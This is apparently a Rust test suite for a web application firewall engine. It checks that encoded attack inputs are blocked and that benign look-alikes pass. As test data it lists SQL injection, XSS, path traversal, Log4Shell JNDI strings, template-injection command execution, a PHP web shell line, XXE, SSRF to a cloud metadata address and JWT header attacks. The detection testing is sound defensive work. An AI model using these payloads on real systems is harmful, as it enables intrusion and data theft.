//! The engine end to end: built-in rules over fields, encodings, policy and budget.

use rampart_detect::{
    Budget, BudgetLimits, Engine, Field, FieldKind, LazyName, Location, Policy, RuleError, extract,
};

fn scan(kind: FieldKind, value: &str) -> rampart_detect::Findings {
    let engine = Engine::builtin();
    let mut budget = Budget::default();
    engine.inspect(
        [Field::new(
            Location::new("query", "v"),
            kind,
            value.as_bytes(),
        )],
        &Policy::default(),
        &mut budget,
    )
}

fn blocks(kind: FieldKind, value: &str) -> bool {
    scan(kind, value).blocks(Policy::default().threshold())
}

#[test]
fn builtin_rules_compile() {
    assert!(Engine::builtin().rules().count() > 40);
}

#[test]
fn blocks_attacks_in_every_encoding() {
    let q = FieldKind::QueryValue;
    let attacks = [
        (q, "1%27%20or%20%271%27%3D%271"),
        (q, "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        (q, "&lt;script&gt;alert(1)&lt;/script&gt;"),
        (q, "&#x3C;img src=x onerror=alert(1)&#x3E;"),
        (q, "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
        (q, "JyBvciAnMSc9JzE="),
        (q, "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        (
            FieldKind::BodyValue,
            r#"{"q":"1 union select password from users"}"#,
        ),
        (q, "a%3D1%26b%3D%27%20or%201%3D1--"),
        (q, "..%252f..%252fetc%252fpasswd"),
        (q, "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
        (
            FieldKind::HeaderValue,
            "${${lower:j}ndi:ldap://x.example/a}",
        ),
        (q, "{{7*7}}"),
        (q, "${T(java.lang.Runtime).getRuntime().exec('id')}"),
        (q, "<%= system('id') %>"),
        (FieldKind::BodyKey, "$where"),
        (FieldKind::QueryName, "password[$ne]"),
        (q, "*)(uid=*))(|(uid=*"),
        (q, "<!--#exec cmd=\"id\"-->"),
        (q, "{{7*'7'}}"),
        (q, "*))%00"),
        (FieldKind::HeaderValue, "[$ne]=1"),
        (q, "x%0d%0aa1 LOGIN admin pw%0d%0aa2 SELECT INBOX"),
        (q, "https://[2001:db8::7]/shell.php"),
        (FieldKind::Path, "/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        (q, "OyBpZA=="),
        (
            FieldKind::BodyText,
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        ),
        (q, "http://0x7f.1/admin"),
        (q, "x%0d%0aSet-Cookie:%20a=b"),
        (FieldKind::BodyValue, "me@example.com\nBcc: all@example.com"),
        (q, "php://filter/convert.base64-encode/resource=index.php"),
        (q, "<?php system($_GET['c']); ?>"),
        (q, "O:8:\"stdClass\":0:{}"),
        (q, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
        (FieldKind::HeaderValue, "sqlmap/1.7"),
        (FieldKind::Path, "/files/../../etc/passwd"),
        (FieldKind::Path, "/.git/config"),
        (FieldKind::Path, "/app/.vscode/sftp.json"),
        (FieldKind::Path, "/backup/site.sql.gz"),
        (FieldKind::Path, "/wp-content/debug.log"),
        (FieldKind::Path, "/index.php~"),
        (q, "1 and ascii(substring(@@version,1,1))>52"),
        (q, "char(0x41)"),
        (q, "x' and sleep(5)='"),
        (FieldKind::BodyValue, "concat('a','b')"),
    ];
    for (kind, a) in attacks {
        assert!(blocks(kind, a), "missed {kind}: {a}\n{:?}", scan(kind, a));
    }
}

#[test]
fn passes_look_alike_legitimate_inputs() {
    let q = FieldKind::QueryValue;
    let legit = [
        (q, "select your plan"),
        (q, "O'Reilly"),
        (q, "Drop us a line"),
        (q, "1 or 2"),
        (q, "echo in the mirror"),
        (q, "cats & dogs"),
        (q, "R&D"),
        (q, "a < b"),
        (q, "<3"),
        (q, "Tom & Jerry"),
        (q, "C# and F#"),
        (q, "jane.doe+news@example.com"),
        (q, "https://www.example.com/docs?page=2"),
        (q, "how to use ../ in bash"),
        (q, "{{name}}"),
        (q, "Hello ${name}"),
        (q, "100% natural"),
        (q, "SGVsbG8gV29ybGQ="),
        (q, "{{ price * quantity }}"),
        (q, "Notes (see *)"),
        (
            FieldKind::BodyValue,
            "Step 1 select the file\nStep 2 upload it",
        ),
        (q, "C:/Users/Public/Documents/report.docx"),
        (q, "Price range: 10 < x < 20 and rating >= 4"),
        (FieldKind::Path, "/api/v2/users/42"),
        (
            FieldKind::BodyValue,
            r#"{"comment":"I'd like to union two sets"}"#,
        ),
        (FieldKind::BodyValue, "I'd like to union two sets"),
        (FieldKind::BodyValue, "Line one.\nLine two: more text."),
        (
            FieldKind::HeaderValue,
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
        ),
        (
            FieldKind::HeaderValue,
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        (FieldKind::HeaderValue, "gzip, deflate, br"),
        (FieldKind::Path, "/api/v1/users/42/orders"),
        (q, "2024-05-01T10:00:00Z"),
        (q, "(555) 123-4567"),
        (q, "size: 10; color: red"),
        (FieldKind::Path, "/.well-known/openid-configuration"),
        (FieldKind::Path, "/downloads/release-1.2.tar.gz"),
        (FieldKind::Path, "/docs/changelog"),
        (FieldKind::Path, "/v1.2/items/a.b"),
        (q, "Haßelt (1599) and Herslo (1475)"),
        (q, "count (2) of them"),
        (q, "user(s) and version(s)"),
        (q, "see the left (or right) side"),
        (q, "substring of a word"),
        (
            FieldKind::BodyValue,
            "The version (3.2) adds a cast (of actors).",
        ),
    ];
    for (kind, l) in legit {
        assert!(!blocks(kind, l), "flagged {kind}: {l}\n{:?}", scan(kind, l));
    }
}

#[test]
fn head_fields_cover_path_query_cookies_and_headers() {
    let uri: http::Uri = "/search/../admin?q=hello&id=1%27%20or%20%271%27%3D%271&flag"
        .parse()
        .unwrap();
    let mut headers = http::HeaderMap::new();
    headers.insert("cookie", "sid=abc; theme=dark".parse().unwrap());
    headers.insert("x-custom", "${jndi:ldap://x}".parse().unwrap());
    headers.insert("authorization", "Basic JyBvciAnMSc9JzE=".parse().unwrap());
    let head = extract::head_fields(&uri, &headers);
    assert_eq!((head.query_params, head.cookies), (3, 2));
    let engine = Engine::builtin();
    let findings = engine.inspect(head.fields, &Policy::default(), &mut Budget::default());
    let mut locations: Vec<&str> = findings.hits.iter().map(|h| h.location.as_str()).collect();
    locations.sort_unstable();
    locations.dedup();
    assert_eq!(
        locations,
        [
            "credential:authorization",
            "header:x-custom",
            "path",
            "query:id"
        ],
        "{findings:?}"
    );
    // The decoded credential holds a password: its hit keeps no fragment.
    let basic = findings
        .hits
        .iter()
        .find(|h| h.location == "credential:authorization");
    assert_eq!(basic.map(|h| h.fragment.as_str()), Some("(credential)"));
}

/// A bearer JWT's header is read before any signature check (`kid` into a path or SQL,
/// `jku` fetched, `alg: none`): its unsigned part is screened; other credentials, the
/// signature and encrypted tokens are not.
#[test]
fn bearer_jwts_are_screened_without_their_signature() {
    use base64::Engine as _;
    let b64 = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
    let claims = b64(r#"{"sub":"42","iss":"https://login.example.com/","scope":"openid email"}"#);
    let jwt = |header: &str, sig: &str| format!("{}.{claims}.{sig}", b64(header));
    let screened = |authorization: &str| {
        let uri: http::Uri = "/api/me".parse().unwrap();
        let mut headers = http::HeaderMap::new();
        headers.insert("authorization", authorization.parse().unwrap());
        let head = extract::head_fields(&uri, &headers);
        let fields: Vec<String> = head
            .fields
            .iter()
            .filter(|f| f.kind == FieldKind::HeaderValue)
            .map(|f| String::from_utf8_lossy(&f.value).into_owned())
            .collect();
        let findings =
            Engine::builtin().inspect(head.fields, &Policy::default(), &mut Budget::default());
        (fields, findings.blocks(Policy::default().threshold()))
    };
    // A bearer or basic credential that is no token is screened whole.
    for malformed in [
        "Bearer AAAAAA'or'1'='1",
        "Bearer ${jndi:ldap://x.example/a}",
        "Basic ' union select password from users-- -",
        "${jndi:ldap://x.example/a}",
    ] {
        assert_eq!(screened(malformed), (vec![malformed.to_owned()], true));
    }
    let attacks = [
        r#"{"alg":"HS256","kid":"../../../../../../dev/null"}"#,
        r#"{"alg":"HS256","kid":"k1' UNION SELECT 'key'-- -"}"#,
        r#"{"alg":"none","typ":"JWT"}"#,
        r#"{"alg":"RS256","jku":"http://127.0.0.1:8000/jwks.json"}"#,
    ];
    for header in attacks {
        let token = format!("Bearer {}", jwt(header, "c2lnbmF0dXJl"));
        let (fields, blocked) = screened(&token);
        assert!(blocked, "{header}");
        assert_eq!(fields.len(), 2);
        assert!(fields[0].ends_with('.') && !fields[0].contains("c2lnbmF0dXJl"));
        assert_eq!(fields[1], claims);
    }
    // Claims a backend trusts once the signature checks out carry injections too.
    let header = r#"{"alg":"HS256","typ":"JWT"}"#;
    for claim in [
        r#"{"sub":"42","username":"${jndi:ldap://x.example/a}"}"#,
        r#"{"sub":"42","name":"<script>alert(document.cookie)</script>"}"#,
        r#"{"sub":"42","tenant":"../../../../etc/passwd"}"#,
    ] {
        let token = format!("Bearer {}.{}.c2ln", b64(header), b64(claim));
        assert!(screened(&token).1, "{claim}");
    }
    // Identity providers write their own URLs and session ids into claims.
    for claim in [
        r#"{"iss":"https://sso.acme.example/realms/c","allowed-origins":["https://app.acme.example","http://localhost:4200"]}"#,
        r#"{"aud":["https://kubernetes.default.svc.cluster.local"],"sub":"system:serviceaccount:payments:api"}"#,
        r#"{"sub":"user_2fQ8b1","sid":"sess_BGGa2Fe6BrPXrXHvZbZWTTGqIsN"}"#,
        r#"{"iss":"https://127.0.0.1:43211","aud":"rampart-api","sub":"alice","jti":"jti-1733390000-8406551","scope":"read write"}"#,
        r#"{"iss":"http://10.20.0.7:8080/realms/dev","azp":"web","allowed-origins":["http://192.168.1.20:3000"]}"#,
    ] {
        let token = format!("Bearer {}.{}.c2ln", b64(header), b64(claim));
        assert!(!screened(&token).1, "{claim}");
    }
    // A basic credential is decoded and screened as user:password.
    let basic = base64::engine::general_purpose::STANDARD;
    for credential in [
        "admin' OR '1'='1:x",
        "admin:x' OR 'x'='x",
        "*)(uid=*))(|(uid=*:x",
    ] {
        let value = format!("Basic {}", basic.encode(credential));
        assert!(screened(&value).1, "{credential}");
    }
    for credential in [
        "alice:S3cr3t!@#2024",
        "o'brien:correct horse battery staple",
        "svc-backup:Tr0ub4dor&3",
    ] {
        let value = format!("Basic {}", basic.encode(credential));
        assert!(!screened(&value).1, "{credential}");
    }
    let legit = [
        format!(
            "Bearer {}",
            jwt(
                r#"{"alg":"RS256","typ":"JWT","kid":"2024-11-rsa-1"}"#,
                "c2ln"
            )
        ),
        format!(
            "bearer {}",
            jwt(r#"{"alg":"ES256","kid":"a1b2c3"}"#, "c2ln")
        ),
    ];
    for token in &legit {
        assert!(!screened(token).1, "{token}");
    }
    // Not screened at all: bearer credentials that are opaque tokens, an encrypted JWE,
    // other schemes' parameters.
    let kid = b64(r#"{"alg":"dir","enc":"A256GCM","kid":"../../etc/passwd"}"#);
    for other in [
        "Bearer mF_9.B5f-4.1JqM".to_owned(),
        "Bearer ya29.a0AfH6SMBx~+/abc==".to_owned(),
        format!("Bearer {kid}.x.y.z.w"),
        r#"Digest username="a' or 1=1-- ", realm="x", nonce="1", uri="/", response="2""#.to_owned(),
    ] {
        assert_eq!(screened(&other), (vec![], false), "{other}");
    }
}

#[test]
fn head_fields_split_pairs_as_servers_do() {
    let uri: http::Uri = "/p?a=1&&b=&=v&flag&c=x=y&d=%20".parse().unwrap();
    let mut headers = http::HeaderMap::new();
    headers.insert(
        "cookie",
        http::HeaderValue::from_bytes(b" sid=abc ;theme=dark;; caf\xe9=1; e=").unwrap(),
    );
    let head = extract::head_fields(&uri, &headers);
    let got: Vec<(String, FieldKind, String)> = head
        .fields
        .iter()
        .filter(|f| f.kind != FieldKind::Path)
        .map(|f| {
            (
                f.location.to_string(),
                f.kind,
                String::from_utf8_lossy(&f.value).into_owned(),
            )
        })
        .collect();
    let want = [
        ("query:a", FieldKind::QueryName, "a"),
        ("query:a", FieldKind::QueryValue, "1"),
        ("query:b", FieldKind::QueryName, "b"),
        ("query", FieldKind::QueryValue, "v"),
        ("query:flag", FieldKind::QueryName, "flag"),
        ("query:c", FieldKind::QueryName, "c"),
        ("query:c", FieldKind::QueryValue, "x=y"),
        ("query:d", FieldKind::QueryName, "d"),
        ("query:d", FieldKind::QueryValue, "%20"),
        ("cookie:sid", FieldKind::CookieName, "sid"),
        ("cookie:sid", FieldKind::CookieValue, "abc"),
        ("cookie:theme", FieldKind::CookieName, "theme"),
        ("cookie:theme", FieldKind::CookieValue, "dark"),
        ("cookie:caf\u{fffd}", FieldKind::CookieName, "caf\u{fffd}"),
        ("cookie:caf\u{fffd}", FieldKind::CookieValue, "1"),
        ("cookie:e", FieldKind::CookieName, "e"),
    ];
    let want: Vec<(String, FieldKind, String)> = want
        .iter()
        .map(|(l, k, v)| ((*l).to_owned(), *k, (*v).to_owned()))
        .collect();
    assert_eq!(got, want);
    assert_eq!((head.query_params, head.cookies), (6, 4));
}

#[test]
fn a_data_uri_is_inspected_for_what_it_carries() {
    // Where no URL rule looks (a header, a text body), the payload still gives it away.
    let attacks = [
        "data:text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "see data:text/plain;BASE64,JyB1bmlvbiBzZWxlY3QgcGFzc3dvcmQgZnJvbSB1c2Vycy0t",
    ];
    let legit = [
        "data:text/plain;base64,SGVsbG8sIHdvcmxkIQ==",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "text/html,application/xhtml+xml;q=0.9",
    ];
    for kind in [FieldKind::HeaderValue, FieldKind::BodyText] {
        for a in attacks {
            assert!(blocks(kind, a), "passed {kind}: {a}");
        }
        for l in legit {
            assert!(!blocks(kind, l), "flagged {kind}: {l}\n{:?}", scan(kind, l));
        }
    }
}

/// Findings of a request head with `target` and no headers, as the tiers extract it.
#[allow(clippy::expect_used, reason = "a test helper over literal targets")]
fn scan_target(target: &str) -> rampart_detect::Findings {
    let uri: http::Uri = target.parse().expect("request target");
    let headers = http::HeaderMap::new();
    let fields = extract::head_fields(&uri, &headers).fields;
    Engine::builtin().inspect(fields, &Policy::default(), &mut Budget::default())
}

#[test]
fn a_query_split_inside_a_value_is_also_screened_whole() {
    let threshold = Policy::default().threshold();
    // A raw `&` in the value leaves pieces that are harmless one by one.
    let attacks = [
        "/?x=%3Cb%3E&lt;svg&gt;&lt;script&gt;alert&amp;%2340;1&amp;%2341;&lt;/script&gt;",
        "/?x=a&&%20echo%20%25USERNAME%25",
        "/?x=f%28%29%7B%20f%7Cf&%20%7D%3Bf",
        "/?x=1&%2339;;%20WAITFOR%20DELAY%20&%2339;00:00:04&%2339;--",
        "/?x=9&%2339;%20AND%201=1%20--",
    ];
    for target in attacks {
        let findings = scan_target(target);
        assert!(findings.blocks(threshold), "passed {target}");
        assert!(
            findings.hits.iter().any(|h| h.location == "query"),
            "{target}: {:?}",
            findings.hits
        );
    }
    let legit = [
        "/search?q=Tom%20&%20Jerry&page=2",
        "/search?q=rock+&+roll",
        "/search?q=Fish%20&%20Chips%20(large)&qty=2",
        "/items?filter[status]=active&sort=-created_at&fields=id,name",
        "/items?a=1&&b=2&",
        "/items?%E4%B8%AD%E6%96%87=1",
        "/login?redirect=/home&ref=news",
        "/books?q=it%27s&name=O%27Reilly",
        "/tags?q=C%23%20%26%20.NET&lang=en",
        "/sale?discount=50%&x=1",
    ];
    for target in legit {
        let findings = scan_target(target);
        assert!(!findings.blocks(threshold), "{target}: {:?}", findings.hits);
    }
}

#[test]
fn path_segments_that_are_more_than_names_are_screened_as_values() {
    let threshold = Policy::default().threshold();
    // Payloads a REST route hands its backend as a path parameter.
    let attacks = [
        "/SELECT%20*%20FROM%20users",
        "/v1/users/1%20or%201%3D1/orders",
        "/api/items/time%20whoami",
        "/p/1%3D1",
        "/reports/DROP%20TABLE%20sessions",
        "/alias%20ls%3D%27rm%20-rf%27",
        "/x/%27%20xor%20abc%21",
        "/q/42%20like%2042",
        "/items/2.2250738585072011e-308",
        "/price/1e309/convert",
    ];
    for target in attacks {
        let findings = scan_target(target);
        assert!(findings.blocks(threshold), "passed {target}");
        assert!(
            findings.hits.iter().all(|h| h.location == "path"),
            "{target}: {:?}",
            findings.hits
        );
    }
    // Names, ids and prose that look like them: a segment of letters, digits, `-._~`
    // or non-ASCII is a name (`whoami` included), and the rest reads as a value would.
    let legit = [
        "/sessions/whoami",
        "/api/v2/items/8812",
        "/wiki/Foo_(bar)",
        "/books/O%27Reilly",
        "/o'reilly+union+select/books",
        "/search/red%20shoes",
        "/files/My%20Document%20(1).pdf",
        "/v1/projects/p1/locations/eu:batchGet",
        "/@jane.doe",
        "/tags/c++",
        "/cart;jsessionid=0A1B2C3D",
        "/docs/how%20to%20select%20a%20database",
        "/blog/what%20is%20sql%20injection",
        "/caf%C3%A9/menu",
        "/music/Rock%20&%20Roll",
        "/math/1+1=2",
        "/2024-05-01T10:00:00Z/summary",
        "/items/2.2250738585072011e-3081",
        "/papers/1e3090",
    ];
    for target in legit {
        let findings = scan_target(target);
        assert!(!findings.blocks(threshold), "{target}: {:?}", findings.hits);
    }
}

#[test]
fn policy_exclusions_detect_only_and_paranoia() {
    let engine = Engine::builtin();
    let policy = Policy::from_toml(
        r#"
        detect_only_classes = ["xss"]
        [[exclusions]]
        classes = ["sqli"]
        locations = ["json:/comment*"]
        "#,
        &engine,
    )
    .unwrap();
    let fields = [
        Field::new(
            Location::new("json", "/comment/0"),
            FieldKind::BodyValue,
            b"' or '1'='1",
        ),
        Field::new(
            Location::new("json", "/bio"),
            FieldKind::BodyValue,
            b"<script>alert(1)</script>",
        ),
    ];
    let findings = engine.inspect(fields.clone(), &policy, &mut Budget::default());
    assert!(findings.hits.iter().all(|h| h.class != "sqli"));
    assert!(
        findings
            .hits
            .iter()
            .any(|h| h.class == "xss" && h.detect_only)
    );
    assert!(!findings.blocks(policy.threshold()));
    let strict = engine.inspect(fields, &Policy::default(), &mut Budget::default());
    assert!(strict.blocks(5));
    // Paranoia 2 adds rules that stay off at 1.
    let v = [Field::new(
        Location::new("query", "x"),
        FieldKind::QueryValue,
        b"a\r\nOrigin-Trial: 1",
    )];
    let pl1 = engine.inspect(v.clone(), &Policy::default(), &mut Budget::default());
    let pl2 = engine.inspect(
        v,
        &Policy::default().with_paranoia(2),
        &mut Budget::default(),
    );
    assert!(
        pl1.hits.is_empty() && !pl2.hits.is_empty(),
        "{pl1:?} {pl2:?}"
    );
}

#[test]
fn policy_problems_name_their_keys() {
    let engine = Engine::builtin();
    let err = Policy::from_toml(
        "paranoia = 7\nthreshold = 0\ndisabled_rules = [\"nope-1\"]\n[[exclusions]]\nclasses = [\"nope\"]\nlocations = []\n",
        &engine,
    )
    .unwrap_err()
    .to_string();
    for key in [
        "paranoia",
        "threshold",
        "disabled_rules",
        "exclusions[0].classes",
        "exclusions[0].locations",
    ] {
        assert!(err.contains(key), "{key} missing in {err}");
    }
    assert!(Policy::from_toml("paranoid = 1", &engine).is_err());
}

#[test]
fn extra_rules_load_and_bad_rules_are_reported_by_id() {
    let engine = Engine::with_extra_rules(
        r#"
        [[rule]]
        id = "local-001"
        description = "internal debug switch"
        class = "local"
        targets = ["query-value"]
        paranoia = 1
        score = 5
        pattern = '(?i)\bdebug_mode_on\b'
        literals = ["debug_mode"]
        "#,
    )
    .unwrap();
    let f = [Field::new(
        Location::new("query", "x"),
        FieldKind::QueryValue,
        b"DEBUG_MODE_ON",
    )];
    assert_eq!(
        engine
            .inspect(f, &Policy::default(), &mut Budget::default())
            .hits[0]
            .rule_id,
        "local-001"
    );

    let bad = r#"
        [[rule]]
        id = "sqli-001"
        description = "dup"
        class = "sqli"
        targets = ["values"]
        paranoia = 1
        score = 5
        detector = "sqli"
        [[rule]]
        id = "bad-002"
        description = "broken"
        class = "Bad"
        targets = ["nowhere"]
        paranoia = 9
        score = 5
        pattern = "("
        "#;
    let err = Engine::with_extra_rules(bad).unwrap_err();
    let text = err.to_string();
    for needle in [
        "bad-002: class",
        "bad-002: targets",
        "bad-002: paranoia",
        "bad-002: pattern",
    ] {
        assert!(text.contains(needle), "{needle} missing in {text}");
    }
    let RuleError::Invalid(_) =
        Engine::with_extra_rules(&bad[..bad.find("[[rule]]\n        id = \"bad").unwrap()])
            .unwrap_err()
    else {
        panic!("duplicate id not reported as invalid");
    };
    assert!(matches!(
        Engine::with_extra_rules("[[rule]]\nid = 1"),
        Err(RuleError::Parse(_))
    ));
}

#[test]
fn budget_exhaustion_is_reported() {
    let engine = Engine::builtin();
    let mut s = String::from("x");
    for _ in 0..10 {
        s = s.replace('%', "%25") + "%27";
    }
    let mut budget = Budget::new(BudgetLimits {
        max_layers: 2,
        ..BudgetLimits::default()
    });
    let findings = engine.inspect(
        [Field::new(
            Location::new("query", "x"),
            FieldKind::QueryValue,
            s.as_bytes(),
        )],
        &Policy::default(),
        &mut budget,
    );
    assert!(findings.undecided.is_some());
}

#[test]
fn fragments_are_short_and_escaped() {
    let payload = format!("x\r\nSet-Cookie: {}", "a".repeat(500));
    let f = scan(FieldKind::QueryValue, &payload);
    let hit = &f.hits[0];
    assert!(!hit.fragment.contains('\n') && !hit.fragment.contains('\r'));
    assert!(hit.fragment.chars().count() <= 64 * 10);
}

#[test]
fn engine_is_shareable() {
    fn assert_send_sync<T: Send + Sync + Clone>() {}
    assert_send_sync::<Engine>();
}

#[test]
fn many_detector_rules_per_kind_find_the_same_on_both_paths() {
    // Past 64 detector rules a kind is walked rule by rule rather than by bit masks.
    let mut toml = String::new();
    for (i, d) in ["sqli", "xss", "cmdi", "traversal", "ssrf"]
        .iter()
        .cycle()
        .take(70)
        .enumerate()
    {
        toml.push_str(&format!(
            "[[rule]]\nid = \"many-{i:03}\"\ndescription = \"d\"\nclass = \"{d}\"\n\
             targets = [\"all\"]\nparanoia = 1\nscore = 1\ndetector = \"{d}\"\n\n"
        ));
    }
    let fast = Engine::from_rules(&toml).unwrap();
    let full = fast.clone().without_fast_path();
    let policy = Policy::default();
    for v in [
        "1' or '1'='1",
        "<img src=x onerror=alert(1)>",
        "; cat /etc/passwd",
        "../../etc/passwd",
        "http://169.254.169.254/",
        "select your plan",
        "plain words",
    ] {
        let field = || {
            [Field::new(
                Location::new("query", "q"),
                FieldKind::QueryValue,
                v.as_bytes(),
            )]
        };
        let a = fast.inspect(field(), &policy, &mut Budget::default());
        let b = full.inspect(field(), &policy, &mut Budget::default());
        assert_eq!(a, b, "{v}");
    }
    let hits = fast.inspect(
        [Field::new(
            Location::new("query", "q"),
            FieldKind::QueryValue,
            b"1' or '1'='1",
        )],
        &policy,
        &mut Budget::default(),
    );
    assert_eq!(hits.score, 14, "{hits:?}");
}

/// A name that counts its renderings.
struct Counted<'a>(&'a str, usize);

impl LazyName for Counted<'_> {
    fn render(&mut self) -> &str {
        self.1 += 1;
        self.0
    }
}

#[test]
fn lazy_locations_find_the_same_and_render_only_when_needed() {
    let engine = Engine::builtin();
    let policy = Policy::from_toml(
        "[[exclusions]]\nclasses = [\"sqli\"]\nlocations = [\"json:/comment*\"]\n",
        &engine,
    )
    .unwrap();
    let fields = [
        ("/status", FieldKind::BodyKey, "status"),
        ("/status", FieldKind::BodyValue, "shipped"),
        ("/comment/0", FieldKind::BodyValue, "' or '1'='1"),
        ("/q", FieldKind::BodyValue, "%27%20or%20%271%27=%271"),
        ("/file/filename", FieldKind::BodyValue, "shell.php"),
        ("/other", FieldKind::BodyValue, "shell.php"),
        ("/again", FieldKind::BodyValue, "shipped"),
        ("/bio", FieldKind::BodyValue, "<script>alert(1)</script>"),
    ];
    for policy in [&policy, &Policy::default()] {
        let eager = engine.inspect(
            fields
                .iter()
                .map(|&(n, k, v)| Field::new(Location::new("json", n), k, v.as_bytes())),
            policy,
            &mut Budget::default(),
        );
        let mut budget = Budget::default();
        let mut scan = engine.scan(policy, &mut budget);
        let mut renders = Vec::new();
        for (n, k, v) in fields {
            let mut name = Counted(n, 0);
            scan.field_lazy("json", k, v, &mut name);
            renders.push(name.1);
        }
        assert_eq!(scan.finish(), eager);
        assert!(renders.iter().all(|&r| r <= 1), "{renders:?}");
        // Clean values no rule excludes by name need no location.
        assert_eq!(renders[..2], [0, 0]);
        assert_eq!(renders[6], 0);
    }
}

#[test]
fn a_small_body_inspected_field_by_field_finds_and_charges_the_same() {
    let engine = Engine::builtin();
    // Excluded at one location only: the verdict there must not carry to another.
    let policy = Policy::from_toml(
        "[[exclusions]]\nclasses = [\"sqli\"]\nlocations = [\"json:/note\"]\n",
        &engine,
    )
    .unwrap();
    let fields = [
        ("/status", FieldKind::BodyKey, "status"),
        ("/status", FieldKind::BodyValue, "shipped"),
        ("/again", FieldKind::BodyValue, "shipped"),
        // Clean once decoded: each sighting charges the budget the same.
        ("/token", FieldKind::BodyValue, "aGVsbG8gd29ybGQgYWdhaW4="),
        ("/token2", FieldKind::BodyValue, "aGVsbG8gd29ybGQgYWdhaW4="),
        ("/note", FieldKind::BodyValue, "' or '1'='1"),
        ("/q", FieldKind::BodyValue, "' or '1'='1"),
        ("/bio", FieldKind::BodyValue, "<script>alert(1)</script>"),
        ("/bio2", FieldKind::BodyValue, "<script>alert(1)</script>"),
    ];
    for policy in [&policy, &Policy::default()] {
        let mut outcomes = Vec::new();
        // Few fields: nothing remembered; many: the memo serves the repeats.
        for expected in [fields.len(), 10_000] {
            let mut budget = Budget::default();
            let mut scan = engine
                .scan(policy, &mut budget)
                .expecting_body_fields(expected);
            for (n, k, v) in fields {
                scan.field(&Field::new(Location::new("json", n), k, v.as_bytes()));
            }
            let findings = scan.finish();
            outcomes.push((findings, budget.decoded_bytes()));
        }
        assert!(outcomes[0].1 > 0, "the base64 value was decoded");
        assert_eq!(outcomes[0], outcomes[1]);
    }
}
